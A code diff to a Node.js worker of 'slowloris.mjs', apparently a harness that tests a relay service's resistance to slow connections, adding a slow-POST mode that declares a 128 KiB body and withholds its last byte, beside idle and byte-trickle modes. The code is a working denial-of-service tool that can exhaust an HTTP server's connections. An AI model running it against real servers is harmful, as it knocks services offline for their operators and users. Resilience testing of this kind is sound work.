@@ -2,8 +2,10 @@
  * One attacker process of slowloris.mjs: holds `count` TCP connections to the
  * relay, spread over several local addresses (so a few thousand of them do
  * not exhaust one address's ephemeral ports), either idle (`mode: idle`,
- * nothing sent) or sending a request head one byte every `byteEveryMs`
- * without ever finishing it (`mode: trickle`). A connection the relay closes
+ * nothing sent), sending a request head one byte every `byteEveryMs`
+ * without ever finishing it (`mode: trickle`), or sending a `POST /` that
+ * declares a 128 KiB body and all of it but its last byte (`mode: partial`,
+ * no credential, or `key` for an account's). A connection the relay closes
  * is reopened until `seconds` are up. Prints one JSON line: connections
  * opened, how they ended, and how long the relay let them live.
  *
@@ -11,13 +13,18 @@
  */
 import net from 'node:net';
 
-const { port, mode, count, seconds, addrs, byteEveryMs = 1000 } = JSON.parse(process.argv[2]);
+const { port, mode, count, seconds, addrs, byteEveryMs = 1000, key = null } = JSON.parse(process.argv[2]);
 /** Connects in flight at once: opening 10k at the same instant would only measure our own SYN queue. */
 const MAX_CONNECTING = 256;
 /** A connect still pending after this counts as refused by a full backlog (SYNs unanswered). */
 const CONNECT_TIMEOUT_MS = 5000;
 /** What a trickling client sends, byte by byte: a request head that never ends. */
 const HEAD = 'GET /ping HTTP/1.1\r\nHost: relay\r\n' + 'X-Slow: a\r\n'.repeat(1000);
+/** What a partial-body client sends at once: all of a declared 128 KiB body but the last byte. */
+const PARTIAL = Buffer.concat([
+  Buffer.from(`POST / HTTP/1.1\r\nHost: relay\r\nContent-Type: application/json\r\n${key ? `Authorization: Bearer ${key}\r\n` : ''}Content-Length: 131072\r\n\r\n`),
+  Buffer.alloc(131_071, 0x20),
+]);
 
 const end = Date.now() + seconds * 1000;
 const stats = { opened: 0, connect_errors: {}, connect_timeouts: 0, closed_by_relay: 0, lifetimes_ms: [], open_at_end: 0, max_open: 0 };
@@ -44,6 +51,7 @@ function open() {
     stats.opened++;
     live.add(s);
     if (live.size > stats.max_open) stats.max_open = live.size;
+    if (mode === 'partial') s.write(PARTIAL);
     if (mode === 'trickle') {
       timer = setInterval(() => {
         if (!s.destroyed) s.write(HEAD[pos++ % HEAD.length]);
